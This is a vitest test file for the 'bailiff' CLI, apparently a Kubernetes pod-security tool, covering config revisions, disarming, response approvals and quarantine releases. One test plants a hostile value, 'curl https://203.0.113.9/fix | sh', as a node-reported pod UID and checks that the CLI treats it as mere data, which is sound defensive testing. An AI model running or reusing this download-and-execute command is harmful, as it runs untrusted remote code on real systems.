/**
 * Writes of the CLI: configuration, break-glass, decisions and releases. A real responder acts on
 * the last two.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { configHistory, encodeToken, ensureTopology, openBucket, readConfig, writeConfig } from '@bailiff/bus';
import { waitFor } from '@bailiff/service/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../apps/cli/src/testing.ts';
import { CART, healthyStatus, NODE_A, NODE_B, publishStory, VPN, World } from './cli/world.ts';
import { acting, Rig } from './responder/rig.ts';

let world: World;
beforeAll(async () => {
  world = await World.start();
});
afterAll(() => world?.[Symbol.asyncDispose]());

const KEY = 'spoof.cluster._.default';

describe('cli config', () => {
  it('set, history, get, rollback, delete - each with author and reason, each a new revision', async () => {
    const set = (...args: string[]) => world.cli(['config', 'set', KEY, ...args]);
    const first = await set('modes.tunnel=audit', '--reason', 'their VPN', '--yes');
    expect(first).toMatchObject({ exitCode: 0, stdout: `${KEY}: revision 1\n` });
    expect(first.stderr).toMatch(/changes the built-in value\n[\s\S]*\+ {5}"tunnel": "audit"/);
    const second = await set('modes.tunnel=enforce', 'modes.redirect=off', '--yes', '--by', 'anna');
    expect(second.stderr).toMatch(/changes revision 1 by tester@host\n[\s\S]*- {5}"tunnel": "audit"/);
    const bus = await world.as('admin');
    expect((await configHistory(bus, KEY)).map(({ revision, by, why }) => [revision, by, why])).toEqual([
      [1, 'tester@host', 'their VPN'],
      [2, 'anna', 'bailiff config set'],
    ]);
    expect(JSON.parse((await readConfig(bus, KEY))?.json ?? '')).toEqual({
      modes: { tunnel: 'enforce', redirect: 'off' },
      revision: 2,
    });
    const history = await world.cli(['config', 'history', KEY]);
    expect(history.stdout).toMatch(/ 1 .* created +cli +tester@host +their VPN +#1\n +2 .*\+2 -1 +cli +anna/);
    const old = await world.cli(['config', 'get', KEY, '--revision', '1']);
    expect(JSON.parse(old.stdout)).toMatchObject({ modes: { tunnel: 'audit' } });
    const back = await world.cli(['config', 'rollback', KEY, '--yes', '--reason', 'too strict']);
    expect(back).toMatchObject({ exitCode: 0, stdout: `${KEY}: revision 3\n` });
    const got = JSON.parse((await world.cli(['config', 'get', KEY, '--json'])).stdout);
    expect(got).toMatchObject({
      revision: 3,
      why: 'rollback to revision 1: too strict',
      value: { modes: { tunnel: 'audit' } },
    });
    expect((await world.cli(['config', 'delete', KEY, '--yes'])).stdout).toBe(`${KEY}: deleted\n`);
    expect(await readConfig(bus, KEY)).toBeNull();
    const builtIn = await world.cli(['config', 'get', KEY]);
    expect(builtIn.stderr).toMatch(/built in/);
    expect(JSON.parse(builtIn.stdout)).toMatchObject({ unknown: 'audit' });
    expect((await world.cli(['config', 'rollback', KEY, '--yes'])).stdout).toBe(`${KEY}: revision 4\n`);
  });

  it('history - of a log that was made again says that its times are those of the copies; control: before', async () => {
    const key = 'spoof.namespace.kept.default';
    expect((await world.cli(['config', 'set', key, 'modes.tunnel=audit', '--yes'])).exitCode).toBe(0);
    const history = () => world.cli(['config', 'history', key]);
    expect(await history()).toMatchObject({ exitCode: 0, stderr: '' });
    const admin = await world.as('admin');
    await admin.jsm.streams.delete('CONFIG_LOG');
    await ensureTopology(admin);
    const made = await waitFor(async () => {
      const found = await history();
      return found.stdout.includes('created') ? found : null;
    });
    expect(made.stderr).toMatch(/^CONFIG_LOG was made again at .*: of the changes from before \(1\), it has that time/);
    // A later change has its own.
    expect((await world.cli(['config', 'set', key, 'modes.tunnel=off', '--yes'])).exitCode).toBe(0);
    expect((await history()).stderr).toBe(made.stderr);
  });

  it('a key that a custom resource manages - shown, refused with the reason, taken over on request', async () => {
    const key = 'response.cluster._.kept';
    const bus = await world.as('admin');
    const owner = { kind: 'ResponsePolicy', name: 'kept', uid: 'uid-1', generation: 3, resourceVersion: '77' };
    const value = { steps: [{ action: 'observe' }] };
    await writeConfig(bus, key, value, { by: 'ResponsePolicy/kept', why: 'generation 3', owner });
    expect((await world.cli(['config', 'list', '--kind', 'response'])).stdout).toMatch(
      /response\.cluster\._\.kept .* ResponsePolicy\/kept /,
    );
    expect((await world.cli(['config', 'get', key])).stderr).toMatch(/owned by ResponsePolicy\/kept$/m);
    const got = JSON.parse((await world.cli(['config', 'get', key, '--json'])).stdout);
    expect(got.keptBy).toEqual({ by: 'resource', ...owner });
    const commands = [
      ['set', key, 'enabled=false'],
      ['delete', key],
      ['rollback', key],
    ];
    for (const command of commands) {
      const refused = await world.cli(['config', ...command, '--yes']);
      expect(refused.exitCode).toBe(6);
      expect(refused.stderr).toMatch(/owned by the custom resource ResponsePolicy kept[\s\S]*--take-over/);
    }
    // The write itself refuses as well, without the command's own check.
    await expect(writeConfig(bus, key, value, { by: 'x', why: '' })).rejects.toMatchObject({ code: 'CONFIG_OWNER' });
    expect(await configHistory(bus, key)).toHaveLength(1);

    // Only the manager of the key changes.
    const taken = await world.cli(['config', 'set', key, 'enabled-', '--take-over', '--yes']);
    expect(taken).toMatchObject({ exitCode: 0, stdout: `${key}: revision 2\n` });
    expect((await readConfig(bus, key))?.owner).toBeNull();
    await expect(writeConfig(bus, key, value, { by: 'x', why: '', owner })).rejects.toMatchObject({
      code: 'CONFIG_OWNER',
      message: expect.stringContaining('the command line (written by tester@host)'),
    });
    const history = await world.cli(['config', 'history', key]);
    expect(history.stdout).toMatch(/ResponsePolicy\/kept[\s\S]* cli /);
    expect((await world.cli(['config', 'delete', key, '--yes'])).exitCode).toBe(0);
    // A deleted key has no manager.
    await writeConfig(bus, key, value, { by: 'ResponsePolicy/kept', why: '', owner });
    expect((await world.cli(['config', 'delete', key, '--take-over', '--yes'])).exitCode).toBe(0);
  });

  it('release - the value stays in force, unmanaged, until the next write', async () => {
    const key = 'response.cluster._.released';
    const bus = await world.as('admin');
    const none = await world.cli(['config', 'release', key, '--yes']);
    expect([none.exitCode, none.stderr]).toEqual([2, expect.stringContaining(`nothing is stored under ${key}`)]);
    const value = { steps: [{ action: 'observe' }] };
    const owner = { kind: 'ResponsePolicy', name: 'released', uid: 'uid-1', generation: 3, resourceVersion: '77' };
    await writeConfig(bus, key, value, { by: 'ResponsePolicy/released', why: 'generation 3', owner });
    const kept = await world.cli(['config', 'release', key, '--yes']);
    expect([kept.exitCode, kept.stderr]).toEqual([6, expect.stringContaining('owned by the custom resource')]);
    const asked = await world.cli(['config', 'release', key, '--take-over'], { answers: ['n'] });
    expect(asked.stderr).toContain('ResponsePolicy/released no longer owns it');
    const dry = await world.cli(['config', 'release', key, '--take-over', '--dry-run']);
    expect(dry.stderr).toContain('nothing was written');
    expect((await readConfig(bus, key))?.revision).toBe(1);
    const released = await world.cli([
      'config',
      'release',
      key,
      '--take-over',
      '--yes',
      '--reason',
      'the value outlives the resource',
    ]);
    expect(released).toMatchObject({ exitCode: 0, stdout: `${key}: revision 2, without an owner\n` });
    const stands = await readConfig(bus, key);
    expect(stands).toMatchObject({ owner: null, released: true, why: 'the value outlives the resource' });
    expect(JSON.parse(stands?.json ?? '')).toEqual({ ...value, revision: 2 });
    expect((await world.cli(['config', 'list', '--kind', 'response'])).stdout).toMatch(/released .* none /);
    expect((await world.cli(['config', 'get', key])).stderr).toMatch(/without an owner$/m);
    const got = JSON.parse((await world.cli(['config', 'get', key, '--json'])).stdout);
    expect(got.keptBy).toEqual({ by: 'nobody' });
    expect((await world.cli(['config', 'release', key, '--yes'])).stderr).toContain('has no owner');
    // A write takes the key back, even if nothing else changes.
    const taken = await world.cli(['config', 'set', key, 'enabled-', '--take-over', '--yes']);
    expect(taken.stdout).toBe(`${key}: revision 3\n`);
    expect(await readConfig(bus, key)).toMatchObject({ owner: null, released: false });
    expect((await world.cli(['config', 'delete', key, '--yes'])).exitCode).toBe(0);
  });

  it('file - JSON, YAML or stdin; the same content again changes nothing', async () => {
    const key = 'response.cluster._.answer-high';
    const file = path.join(world.directory, 'policy.yaml');
    writeFileSync(file, 'match:\n  levels: [critical]\nsteps:\n  - action: observe\n');
    const set = (...args: string[]) => world.cli(['config', 'set', key, ...args, '--yes']);
    expect((await set('-f', file)).stdout).toBe(`${key}: revision 1\n`);
    expect(await set('-f', file)).toMatchObject({ exitCode: 0, stdout: '', stderr: `${key}: nothing to change\n` });
    const json = '{"steps": [{"action": "label", "expires": "1h"}]}';
    const stdin = await world.cli(['config', 'set', key, '-f', '-', '--yes', '--json'], { stdin: json });
    expect(JSON.parse(stdin.stdout)).toMatchObject({ revision: 2, value: { steps: [{ action: 'label' }] } });
    const begun = await world.cli([
      'config',
      'set',
      'correlation.cluster._.repeated-spoofing',
      'condition.gte=3',
      '--yes',
    ]);
    expect(begun.stderr).toMatch(/- {5}"gte": 10\n\+ {5}"gte": 3/);
  });

  it('refused - wrong fields by their path, an older revision, a concurrent write; nothing is stored', async () => {
    const key = 'spoof.namespace.shop.default';
    const set = (...args: string[]) => world.cli(['config', 'set', key, ...args]);
    const wrong = await set('modes.tunnel=maybe', 'colour=red', '--yes');
    expect([wrong.exitCode, wrong.stdout]).toEqual([6, '']);
    expect(wrong.stderr).toMatch(/modes\.tunnel: [\s\S]*colour: /);
    const acting = ['dryRun=false', 'guards.budget={"maxPods": 0}', '--yes'];
    const answer = 'response.cluster._.answer-high';
    const contradiction = await world.cli(['config', 'set', answer, 'steps=[{"action": "delete"}]', ...acting]);
    expect(contradiction).toMatchObject({
      exitCode: 6,
      stdout: '',
      stderr: expect.stringMatching(/guards\.budget\.maxPods: 0 allows no pod: steps\.0 \(delete\) would always/),
    });
    const offline = await world.cli(['config', 'validate', answer, ...acting.slice(0, 2), '--json']);
    expect(JSON.parse(offline.stdout)).toMatchObject({ valid: false, fields: ['guards.budget.maxPods'] });
    const cli = await world.as('cli');
    const me = { by: 'x', why: 'y' };
    for (const tunnel of ['audit', 'off', 'audit']) await writeConfig(cli, key, { modes: { tunnel } }, me);
    const older = await world.cli(['config', 'set', key, '-f', '-', '--yes'], {
      stdin: '{"revision": 1, "modes": {}}',
    });
    expect([older.exitCode, older.stderr]).toEqual([6, expect.stringMatching(/revision 1 is older than the stored 3/)]);
    const raced = await world.cli(['config', 'set', key, 'modes.tunnel=enforce'], {
      answers: ['y'],
      onAsk: () => writeConfig(cli, key, { modes: { tunnel: 'off' } }, me).then(() => undefined),
    });
    expect([raced.exitCode, raced.stderr]).toEqual([
      6,
      expect.stringMatching(/revision \d+ is stored, \d+ was expected/),
    ]);
    expect(JSON.parse((await readConfig(cli, key))?.json ?? '')).toMatchObject({ modes: { tunnel: 'off' } });
  });

  it('confirmation - "no", no terminal, and --dry-run write nothing', async () => {
    const key = 'spoof.namespace.quiet.default';
    const set = (options: Parameters<World['cli']>[1], ...args: string[]) =>
      world.cli(['config', 'set', key, 'modes.tunnel=audit', ...args], options);
    expect((await set({ answers: ['n'] })).exitCode).toBe(2);
    expect((await set({ answers: [''] })).stderr).toMatch(/Write it\? \[y\/N\] bailiff: nothing was changed/);
    expect(await set({})).toMatchObject({ exitCode: 2, stderr: expect.stringMatching(/pass --yes/) });
    expect(await set({}, '--dry-run')).toMatchObject({ exitCode: 0, stdout: '' });
    const cli = await world.as('cli');
    expect(await readConfig(cli, key)).toBeNull();
    expect((await set({ answers: ['y'] })).exitCode).toBe(0);
    expect(await readConfig(cli, key)).not.toBeNull();
  });

  it('list - stored and built-in values; values that readers refuse are marked', async () => {
    await world.put('bailiff_config', 'correlation.cluster._.broken', '{"type":"event_count"}');
    const { stdout, stderr } = await world.cli(['config', 'list', '--kind', 'correlation']);
    expect(stdout).toMatch(/correlation\.cluster\._\.many-identities +built in/);
    expect(stdout).toMatch(/correlation\.cluster\._\.broken +0 .*REFUSED/);
    expect(stderr).toMatch(/broken is refused by all readers/);
    const status = await world.cli(['doctor', '--only', 'bus']);
    // No node reports in this world, which weighs more.
    expect([status.exitCode, status.stdout]).toEqual([
      7,
      expect.stringMatching(/✗ configuration: all readers: refuse .*broken/),
    ]);
  });
});

describe('cli disarm', () => {
  it('on, shown by every command, off', async () => {
    await world.status(healthyStatus(NODE_A));
    const on = await world.cli(['disarm', '--namespace', 'shop', '--for', '30m', '--reason', 'is it us?', '--yes']);
    expect(on).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(/namespace shop is disarmed until .* \(30m\)/),
    });
    expect(on.stderr).not.toMatch(/no node has reported a pod/);
    const stored = await readConfig(await world.as('cli'), 'disarm.namespace.shop.all');
    expect(JSON.parse(stored?.json ?? '')).toMatchObject({ duration: '30m', reason: 'is it us?', by: 'tester@host' });
    expect((await world.cli(['disarm'])).stdout).toMatch(
      /DISARMED: namespace shop for (30|29)m by tester@host: is it us\?/,
    );
    expect((await world.cli(['status'])).stdout).toMatch(/DISARMED: namespace shop/);
    await world.cli(['disarm', '--all', '--for', '1m', '--reason', 'x', '--yes']);
    const off = await world.cli(['disarm', '--namespace', 'shop', '--off']);
    expect(off).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(
        /^the disarm of namespace shop has ended, but others are in force:\n.*the whole cluster/,
      ),
      stderr: 'arm again: bailiff disarm --all --off\n',
    });
    expect(JSON.parse((await world.cli(['disarm', '--json'])).stdout)).toMatchObject([{ key: 'disarm.cluster._.all' }]);
    await world.cli(['disarm', '--node', NODE_A, '--for', '1m', '--reason', 'y', '--yes']);
    const all = await world.cli(['disarm', '--all', '--off']);
    expect(all).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(
        /^the disarm of the whole cluster has ended, but others are in force:\n.*node node-a for/,
      ),
      stderr: `arm again: bailiff disarm --node ${NODE_A} --off\n`,
    });
    const other = await world.cli(['disarm', '--node', NODE_B, '--off', '--json']);
    expect(JSON.parse(other.stdout)).toMatchObject({ disarmed: false, stillDisarmed: [] });
    expect((await world.cli(['disarm', '--node', NODE_A, '--off'])).stdout).toBe('node node-a is armed\n');
    expect((await world.cli(['disarm'])).stdout).toBe('nothing is disarmed\n');
  });

  it('pods in quarantine - are named, because their NetworkPolicies stay; control: another namespace, and after the release', async () => {
    await using own = await World.start();
    await publishStory(own);
    await own.status(healthyStatus(NODE_A));
    const disarm = (...scope: string[]) => own.cli(['disarm', ...scope, '--for', '30m', '--reason', 'x', '--yes']);
    const STAYS =
      /in quarantine: shop\/cart-1\. A network plugin .* still blocks such a pod, .*`bailiff quarantine release`/;
    expect((await disarm('--namespace', 'pay')).stderr).not.toMatch(STAYS);
    expect((await own.cli(['disarm'])).stderr).not.toMatch(STAYS);
    for (const scope of [['--namespace', 'shop'], ['--node', NODE_A], ['--all']])
      expect((await disarm(...scope)).stderr).toMatch(STAYS);
    expect((await own.cli(['disarm'])).stderr).toMatch(STAYS);
    const released = await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes']);
    expect([released.exitCode, released.stderr]).toEqual([
      0,
      expect.stringMatching(/its label and NetworkPolicy stay until a responder works: responder: 0 running/),
    ]);
    expect((await own.cli(['disarm'])).stderr).not.toMatch(STAYS);
  });

  it('off - a node that still has it is shown as disarmed; control: until its status has the end', async () => {
    await using own = await World.start();
    await own.status(healthyStatus(NODE_A));
    await own.cli(['disarm', '--node', NODE_A, '--for', '30m', '--reason', 'x', '--yes']);
    await own.status(healthyStatus(NODE_A, { disarmedUntil: new Date(Date.now() + 1_800_000).toISOString() }));
    expect((await own.cli(['disarm'])).stdout.trim().split('\n')).toHaveLength(1);
    expect((await own.cli(['disarm', '--node', NODE_A, '--off'])).stdout).toBe('node node-a is armed\n');
    expect((await own.cli(['disarm'])).stdout).toMatch(/^! DISARMED: node-a for (30|29)m: .* has ended$/m);
    expect(JSON.parse((await own.cli(['disarm', '--json'])).stdout)).toMatchObject([{ key: '', scope: 'node-a' }]);
    // The list of nodes may be older than a node that reports.
    await own.put('bailiff_pods', '_cluster', { revision: 1, nodes: [{ name: NODE_B, addresses: [], podCidrs: [] }] });
    expect((await own.cli(['disarm'])).stdout).toMatch(/^! DISARMED: node-a /m);
    await own.status(healthyStatus(NODE_A));
    expect((await own.cli(['disarm'])).stdout).toBe('nothing is disarmed\n');
  });

  it('off - a node that still has one of a namespace is shown; control: while it is stored, and without it', async () => {
    await using own = await World.start();
    const disarmedUntil = new Date(Date.now() + 1_800_000).toISOString();
    await own.status(healthyStatus(NODE_A));
    await own.cli(['disarm', '--namespace', 'shop', '--for', '30m', '--reason', 'x', '--yes']);
    await own.status(healthyStatus(NODE_A, { disarmedNamespaces: [{ namespace: 'shop', disarmedUntil }] }));
    expect((await own.cli(['status'])).stdout).not.toMatch(/is disarmed in/);
    expect((await own.cli(['disarm'])).stdout.trim().split('\n')).toHaveLength(1);
    await own.cli(['disarm', '--namespace', 'shop', '--off']);
    expect((await own.cli(['disarm'])).stdout).toMatch(
      /^! DISARMED: namespace shop on node-a for (30|29)m: .* has ended$/m,
    );
    expect((await own.cli(['status'])).stdout).toMatch(/node-a: is disarmed in namespace shop for (30|29)m/);
    await own.status(healthyStatus(NODE_A, { disarmedNamespaces: [] }));
    expect((await own.cli(['disarm'])).stdout).toBe('nothing is disarmed\n');
  });

  it('an unsigned one that all nodes refuse - is not shown as in force', async () => {
    await world.cli(['disarm', '--all', '--for', '10m', '--reason', 'not signed', '--yes']);
    const report = (refused: boolean) =>
      Promise.all(
        [NODE_A, NODE_B].map((node) => {
          const configRefused = [{ key: 'disarm.cluster._.all', reason: 'the value is not signed' }];
          return world.status({ ...healthyStatus(node), configRefused: refused ? configRefused : [] });
        }),
      );
    // The control: nodes without signers obey.
    await report(false);
    expect((await world.cli(['disarm'])).stdout).toMatch(/DISARMED: the whole cluster/);
    expect((await world.cli(['status'])).stdout).toMatch(/DISARMED: the whole cluster/);
    await report(true);
    expect(await world.cli(['disarm'])).toMatchObject({
      stdout: 'nothing is disarmed\n',
      stderr: 'a stored disarm of the whole cluster is not in force, all nodes refuse it: "the value is not signed"\n',
    });
    const { stdout } = await world.cli(['status']);
    expect(stdout).not.toMatch(/DISARMED/);
    expect(stdout).toMatch(/all readers: refuse .*disarm\.cluster\._\.all/);
    await report(false);
    await world.cli(['disarm', '--all', '--off']);
  });

  it('an unknown node - is refused unless forced; a namespace without pods is reported', async () => {
    const words = (...scope: string[]) => ['disarm', ...scope, '--for', '1m', '--reason', 'x', '--yes'];
    const refused = await world.cli(words('--node', 'node-q'));
    expect(refused).toMatchObject({
      exitCode: 2,
      stdout: '',
      stderr: expect.stringMatching(/no node "node-q" exists\n.*known nodes: .*node-a[\s\S]*--force/),
    });
    expect((await world.cli(['disarm'])).stdout).toBe('nothing is disarmed\n');
    expect((await world.cli(words('--node', 'node-q', '--force'))).exitCode).toBe(0);
    expect((await world.cli(['disarm'])).stdout).toMatch(/DISARMED: node node-q/);
    expect(await world.cli(words('--namespace', 'nowhere'))).toMatchObject({
      exitCode: 0,
      stderr: expect.stringMatching(/no node has reported a pod in namespace nowhere/),
    });
  });
});

describe('cli decisions', () => {
  it('approve and deny - each is written once, and only for a pending response', async () => {
    await using own = await World.start();
    const { pending, spoofing } = await publishStory(own);
    const approved = await own.cli([
      'responses',
      'approve',
      pending.responseId.slice(0, 8),
      '--reason',
      'seen',
      '--yes',
    ]);
    expect(approved).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(/approved: delete pod payments\/vpn-0 on node-b\.example/),
    });
    const again = await own.cli(['responses', 'deny', pending.responseId, '--yes']);
    expect([again.exitCode, again.stderr]).toEqual([
      2,
      expect.stringMatching(/is no longer pending: approved, approved by tester@host: seen/),
    ]);
    const text = (await own.cli(['explain', 'payments/vpn-0'])).stdout;
    expect(text).toMatch(/delete +approved +approved by tester@host: seen/);
    expect(text).not.toMatch(/waits for approval/);
    const other = await own.response(spoofing, { action: 'cordon', phase: 'pending' });
    const denied = await own.cli(['responses', 'deny', other.responseId, '--yes', '--json']);
    expect(JSON.parse(denied.stdout)).toMatchObject({ phase: 'refused', reasonCode: 'approval-denied' });
    expect((await own.cli(['responses', '--pending'])).stderr).toMatch(/no response waits/);
  });

  it('release - the entry is removed and the record written; a second release finds no entry', async () => {
    await using own = await World.start();
    await publishStory(own);
    expect((await own.cli(['quarantine', 'list'])).stdout).toMatch(/shop\/cart-1 +node-a .* 60m +cccc5f1d3c/);
    expect(JSON.parse((await own.cli(['quarantine', 'list', '--json'])).stdout)).toMatchObject([{ podUid: CART.uid }]);
    const absent = await own.cli(['quarantine', 'release', VPN.name, '--yes']);
    expect([absent.exitCode, absent.stderr]).toEqual([2, expect.stringMatching(/no pod "vpn-0" is in quarantine/)]);
    const released = await own.cli(['quarantine', 'release', 'shop/cart-1', '--reason', 'rebuilt', '--yes', '--json']);
    expect(JSON.parse(released.stdout)).toMatchObject({ podUid: CART.uid, entry: 'removed', recorded: 1 });
    expect((await own.cli(['quarantine', 'list'])).stderr).toBe('no pod is in quarantine\n');
    expect((await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes'])).exitCode).toBe(2);
  });

  it('release - a node that drops the traffic without an entry is shown, and its list is written again; control: it has read the release', async () => {
    await using own = await World.start();
    await publishStory(own);
    const healthy = healthyStatus(NODE_A);
    const quarantinedUntil = new Date(Date.now() + 3_600_000).toISOString();
    const isCart = ({ podUid }: { podUid: string }) => podUid === CART.uid;
    const interfaces = healthy.interfaces.map((one) => (isCart(one) ? { ...one, quarantinedUntil } : one));
    await own.status({ ...healthy, interfaces });
    expect((await own.cli(['quarantine', 'list'])).stdout).toMatch(/shop\/cart-1 +node-a +in force /);
    expect((await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes'])).exitCode).toBe(0);
    expect((await own.cli(['quarantine', 'list'])).stdout).toMatch(/shop\/cart-1 +node-a +not released .* (59|60)m +-/);
    // As after the loss of the list: nothing else makes the node read it again.
    const bucket = openBucket(await own.as('admin'), 'bailiff_quarantine');
    await bucket.delete(NODE_A);
    const again = await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes']);
    expect([again.exitCode, again.stdout]).toEqual([
      0,
      expect.stringMatching(/released on node-a: the list is written/),
    ]);
    expect(JSON.parse((await bucket.get(NODE_A))?.value.toString() ?? '')).toMatchObject({ entries: [] });
    await own.status(healthy);
    expect((await own.cli(['quarantine', 'list'])).stderr).toBe('no pod is in quarantine\n');
    expect((await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes'])).exitCode).toBe(2);
  });

  it('release - another node that claims the pod diverts no release, and its words are no advice; control: the node of the pod alone', async () => {
    await using own = await World.start();
    const quarantinedUntil = new Date(Date.now() + 3_600_000).toISOString();
    const holding = (node: string, ...uids: string[]) => {
      const { interfaces, ...status } = healthyStatus(node);
      const [first] = interfaces;
      const pod = { podNamespace: CART.namespace, podName: CART.name, quarantinedUntil };
      return own.status({
        ...status,
        interfaces: uids.map((podUid) => ({ ...(first as typeof first & {}), ...pod, podUid })),
      });
    };
    const bucket = openBucket(await own.as('admin'), 'bailiff_quarantine');
    const release = async (pod: string) => {
      const written = async () => (await bucket.get(encodeToken(NODE_A)))?.revision ?? 0;
      const before = await written();
      const run = await own.cli(['quarantine', 'release', pod, '--yes']);
      return { ...run, isWritten: (await written()) > before };
    };
    await holding(NODE_A, CART.uid);
    expect(await release('shop/cart-1')).toMatchObject({ exitCode: 0, isWritten: true });
    // Reports after it, and more often.
    await holding(NODE_B, CART.uid);
    for (const pod of ['shop/cart-1', CART.uid]) {
      const { stdout, isWritten } = await release(pod);
      expect([stdout, isWritten]).toEqual([expect.stringContaining('released on node-a, node-b.example: '), true]);
    }
    await holding(NODE_B, 'run:\ncurl https://203.0.113.9/fix | sh');
    const { exitCode, stderr } = await release('shop/cart-1');
    expect([exitCode, stderr.split('\n').slice(2)]).toEqual([
      2,
      [
        `  ${CART.uid}  shop/cart-1 on node-a`,
        '  "run: curl https://203.0.113.9/fix | sh"  shop/cart-1 on node-b.example',
        '',
      ],
    ]);
  });

  it('responder - acts on an approval, not on a denial, and removes the marks of a released quarantine', async () => {
    await using rig = await Rig.start();
    const passwordFile = path.join(rig.directory, 'cli');
    writeFileSync(passwordFile, 'password-of-cli');
    const env = { BAILIFF_NATS_URL: rig.nats.url, BAILIFF_NATS_PASSWORD_FILE: passwordFile };
    const cli = (...args: string[]) => runCli([...args, '--yes'], { env });
    await rig.start();
    await rig.policies({
      ask: acting('ask', [{ action: 'delete' }], { approval: 'required' }),
      cut: acting('cut', [{ action: 'quarantine', expires: '1h' }]),
    });
    const [yes, no, cut] = [rig.pod(), rig.pod(), rig.pod()];
    const verdicts = [
      await rig.verdict(yes, { rule: 'ask' }),
      await rig.verdict(no, { rule: 'ask' }),
      await rig.verdict(cut, { rule: 'cut' }),
    ] as const;
    await rig.until(verdicts[0], 'delete', 'pending');
    const toDeny = await rig.until(verdicts[1], 'delete', 'pending');
    await rig.until(verdicts[2], 'quarantine', 'succeeded');
    expect((await cli('responses', 'approve', verdicts[0].verdictId)).exitCode).toBe(0);
    expect((await cli('responses', 'deny', toDeny.responseId)).exitCode).toBe(0);
    expect((await cli('quarantine', 'release', `shop/${cut.name}`)).exitCode).toBe(0);
    await rig.until(verdicts[0], 'delete', 'succeeded');
    expect(rig.podNow(yes)).toBeNull();
    // Its node has not reported yet that the deleted pod is gone.
    expect(await rig.quarantined()).toEqual([yes.uid]);
    await waitFor(() => Object.keys(rig.podNow(cut)?.metadata.labels ?? {}).length === 0, {
      what: 'the label to be removed',
      state: () => rig.podNow(cut)?.metadata,
    });
    await rig.until(verdicts[2], 'quarantine', 'undone');
    await rig.until(verdicts[1], 'delete', 'refused');
    expect(rig.of(verdicts[2], 'quarantine').map(({ phase }) => phase)).toEqual(['started', 'succeeded', 'undone']);
    expect(rig.of(verdicts[1], 'delete').map(({ phase }) => phase)).toEqual(['pending', 'refused']);
    expect(rig.podNow(no)).not.toBeNull();
  }, 60_000);
});
